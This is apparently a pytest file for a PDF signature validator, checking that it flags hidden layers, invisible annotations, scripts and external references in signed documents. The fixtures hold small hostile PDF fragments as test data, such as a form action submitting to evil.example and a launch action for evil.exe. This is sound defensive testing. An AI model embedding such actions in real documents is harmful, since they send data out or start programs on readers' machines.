# SPDX-License-Identifier: Apache-2.0
"""What a document hides, or does by itself, is told wherever it stands; what is not in the file is signed by nobody."""

import io
from collections.abc import Mapping

import pytest
from pyhanko.pdf_utils.reader import PdfFileReader

from signatures.models import Overall, Profile, Verdict
from signatures.pades import hidden as module
from signatures.pades.hidden import KINDS, hidden
from signatures.verdict import answers, judge
from tests.signatures import documents, forgeries
from tests.signatures.forgeries import CATALOG, COVER, FIELD, FONT, FORM, LAYER, OTHER_TEXT, PAGE, STAMP
from tests.signatures.pki import NOW, City, Leaf

_ROOT = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 8 0 R %s >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [7 0 R 10 0 R]"
    b" /Resources << /Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >> /Properties << /Layer 9 0 R >> >> %s >>"
)
_STAMP = b"<< /Type /Annot /Subtype /%s /P 3 0 R /Rect [60 380 360 420] /F %d /AP << /N 6 0 R %s >> %s >>"
_FIELD = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (remark) /P 3 0 R /Rect [72 600 272 624] /F 4 /AP << /N 11 0 R >>"
    b" %s >>"
)
_LAYER = b"<< /Type /OCG /Name (Layer) /Usage << %s >> >>"
_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_NOTHING = b"<< /Length 0 /Type /XObject /Subtype /%s %s >>\nstream\n\nendstream"
TOLD: Mapping[str, tuple[Mapping[int, bytes], set[str]]] = {
    "nothing": ({}, set()),
    "a layer that is off in another way of showing": (
        {CATALOG: _ROOT % b"/OCProperties << /OCGs [9 0 R] /D << >> /Configs [<< /BaseState /OFF >>] >>"}, {"layers"},
    ),
    "a layer for the screen alone": ({LAYER: _LAYER % b"/Print << /PrintState /OFF >>"}, {"printing"}),
    "a layer for paper alone": ({LAYER: _LAYER % b"/View << /ViewState /OFF >>"}, {"printing"}),
    "a layer for some": ({LAYER: _LAYER % b"/Language << /Lang (zh) >>"}, {"layers"}),
    "what shows when a layer is off": ({LAYER: b"<< /Type /OCMD /OCGs [] /P /AllOff >>"}, {"layers"}),
    "what shows by a rule": ({LAYER: b"<< /Type /OCMD /VE [/Not []] >>"}, {"layers"}),
    "a layer for all": ({LAYER: _LAYER % b"/Print << /PrintState /ON >>"}, set()),
    "a note for the screen alone": ({STAMP: _STAMP % (b"Stamp", 0, b"", b"")}, {"printing"}),
    "a note for paper alone": ({STAMP: _STAMP % (b"Stamp", 36, b"", b"")}, {"printing"}),
    "a note for nobody": ({STAMP: _STAMP % (b"Stamp", 2, b"", b"")}, {"unseen"}),
    "a note not for the screen": ({STAMP: _STAMP % (b"Stamp", 32, b"", b"")}, {"unseen"}),
    "a note that the mouse brings": ({STAMP: _STAMP % (b"Stamp", 260, b"", b"")}, {"switches"}),
    "a note that looks otherwise under the mouse": (
        {STAMP: _STAMP % (b"Stamp", 4, b"/R 11 0 R", b"")}, {"switches"},
    ),
    "a click that hides": ({FIELD: _FIELD % b"/A << /S /Hide /T (x) >>"}, {"switches"}),
    "a click that shows a layer": ({FIELD: _FIELD % b"/A << /S /SetOCGState /State [/ON 9 0 R] >>"}, {"switches"}),
    "a film": ({STAMP: _STAMP % (b"RichMedia", 4, b"", b"")}, {"media"}),
    "a file on the page": ({STAMP: _STAMP % (b"FileAttachment", 4, b"", b"")}, {"attachments"}),
    "a script in a field": ({FIELD: _FIELD % b"/AA << /C << /S /JavaScript /JS (1) >> >>"}, {"scripts"}),
    "a script in a field that looks like a signature": (
        {FIELD: _FIELD % b"/ByteRange [0 1 2 3] /AA << /C << /S /JavaScript /JS (1) >> >>"}, {"scripts"},
    ),
    "a script behind another act": (
        {CATALOG: _ROOT % (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + _SCRIPT + b"] >>")}, {"scripts"},
    ),
    "a page that acts": ({PAGE: _PAGE % (b"/AA << /O " + _SCRIPT + b" >>")}, {"scripts", "actions"}),
    "a note that acts with its page": (
        {FIELD: _FIELD % b"/AA << /PO << /S /Named /N /NextPage >> >>"}, {"actions"},
    ),
    "a button that sends": ({FIELD: _FIELD % b"/A << /S /SubmitForm /F (https://evil.example/) >>"}, {"leads"}),
    "a button that starts": ({FIELD: _FIELD % b"/A << /S /Launch /F (evil.exe) >>"}, {"leads"}),
    "a link": ({STAMP: _STAMP % (b"Link", 0, b"", b"/A << /S /URI /URI (https://city.example/) >>")}, set()),
    "another form": ({FORM: b"<< /Fields [10 0 R] /XFA [] >>"}, {"form"}),
    "fields drawn by whoever shows them": ({FORM: b"<< /Fields [10 0 R] /NeedAppearances true >>"}, {"drawn"}),
    "another picture for paper": (
        {COVER: _NOTHING % (b"Image", b"/Alternates [<< /Image 11 0 R /DefaultForPrinting true >>]")}, {"printing"},
    ),
}  # fmt: skip
OUTSIDE = {
    "a picture elsewhere": {COVER: _NOTHING % (b"Image", b"/F << /Type /Filespec /F (evil.png) >>")},
    "a letter that is a picture elsewhere": {
        FONT: b"<< /Type /Font /Subtype /Type3 /CharProcs << /F 4 0 R >> /Resources << /XObject << /C 13 0 R >> >> >>",
        OTHER_TEXT: _NOTHING % (b"Image", b"/F << /Type /Filespec /F (evil.png) >>"),
    },
    "letters elsewhere": {
        FONT: b"<< /Type /Font /Subtype /TrueType /FontDescriptor << /FontFile2 13 0 R >> >>",
        OTHER_TEXT: _NOTHING % (b"Font", b"/F (evil.png)"),
    },
    "colours elsewhere": {
        COVER: _NOTHING % (b"Image", b"/ColorSpace [/ICCBased 13 0 R]"),
        OTHER_TEXT: _NOTHING % (b"Profile", b"/F (evil.png)"),
    },
    "a page elsewhere": {COVER: _NOTHING % (b"Form", b"/Ref << /F (evil.png) /Page 0 >>")},
}


def draft(replaced: Mapping[int, bytes]) -> bytes:
    plain = {CATALOG: _ROOT % b"", PAGE: _PAGE % b"", FIELD: _FIELD % b""}
    return forgeries.draft({**plain, **replaced})


def _look(document: bytes, city: City) -> Verdict:
    return judge(document, documents.inspected(document, city), profile=Profile.STRICT, at=NOW)


@pytest.mark.parametrize("name", TOLD)
def test_each_kind_is_found_where_it_stands(name: str) -> None:
    replaced, told = TOLD[name]
    found = hidden(PdfFileReader(io.BytesIO(draft(replaced))))
    assert (set(found.told), found.outside) == (told, {})


def test_every_kind_has_its_words() -> None:
    assert set(KINDS) == {kind for _, told in TOLD.values() for kind in told} | {
        "unsearched",
        "after",
        "unopened",
        "signatures",
    }
    assert all(answers.hidden(kind) is not None for kind in KINDS)


def test_it_is_told_of_a_signed_document_and_changes_nothing(city: City, leaf: Leaf) -> None:
    signed = documents.signed_with(leaf, draft(TOLD["a button that starts"][0]))
    verdict = _look(signed, city)
    assert verdict.overall is Overall.TRUSTED
    assert [each.code for each in verdict.problems] == ["stamp_missing", "hidden_leads"]


@pytest.mark.parametrize("name", OUTSIDE)
def test_what_is_shown_from_another_file_is_not_signed(name: str, city: City, leaf: Leaf) -> None:
    verdict = _look(documents.signed_with(leaf, draft(OUTSIDE[name])), city)
    (one,) = verdict.signatures
    assert (verdict.overall, one.unchanged.code) == (Overall.CANNOT_TELL, "partly_signed")
    assert one.unchanged.words.parameters == {"files": "evil.png"}


def test_where_the_search_ends_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "_MOST_OBJECTS", 5)
    assert "unsearched" in hidden(PdfFileReader(io.BytesIO(draft({})))).told


def test_a_reference_that_leads_nowhere_is_no_damage(city: City, leaf: Leaf) -> None:
    torn = _PAGE.replace(b"/Contents 4 0 R", b"/Contents [ 4 0 R 98 0 R ]") % b""
    assert _look(documents.signed_with(leaf, draft({PAGE: torn})), city).overall is Overall.TRUSTED
